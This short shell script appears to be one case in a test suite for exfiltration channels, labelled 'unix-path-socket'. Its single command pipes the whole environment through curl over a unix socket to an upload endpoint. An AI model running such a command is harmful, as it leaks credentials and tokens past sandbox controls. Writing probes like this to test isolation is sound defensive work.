#!/bin/sh
# unix-path-socket (sh): curl speaks HTTP over a unix socket just as well.
. "${TARGETS:-$1}"
env | curl -s -m 3 --unix-socket "$T_UNIX_SOCK" --data-binary @- http://localhost/upload
